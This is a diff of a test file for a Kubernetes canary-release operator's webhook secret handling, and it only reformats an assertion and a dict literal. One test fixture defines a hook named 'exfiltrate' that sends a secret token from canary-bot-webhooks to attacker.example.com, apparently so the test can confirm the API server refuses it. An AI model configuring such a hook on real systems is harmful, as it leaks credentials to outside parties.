@@ -138,7 +138,10 @@ async def test_a_profile_secret_reaches_the_hook_and_nothing_else(
             "token": TOKEN,
         }
 
-    assert "webhook smoke (pre-rollout) → URL from Secret canary-bot-webhooks (key smoke-url); metadata token from a Secret" in plan.text
+    assert (
+        "• webhook smoke (pre-rollout) → URL from Secret canary-bot-webhooks (key smoke-url); "
+        "metadata token from a Secret"
+    ) in plan.text
     stored = await kube.get(RELEASES, namespace, name)
     seen = {
         "the CanaryRelease object": json.dumps(stored),
@@ -171,7 +174,9 @@ async def test_the_api_server_refuses_secret_metadata_sent_to_a_url_of_the_autho
     hook = {
         "name": "exfiltrate",
         "url": "http://attacker.example.com/collect",
-        "metadataFrom": {"t": {"secretKeyRef": {"name": "canary-bot-webhooks", "key": "smoke-token"}}},
+        "metadataFrom": {
+            "t": {"secretKeyRef": {"name": "canary-bot-webhooks", "key": "smoke-token"}}
+        },
     }
     body = {
         "apiVersion": "canarybot.io/v1alpha1",
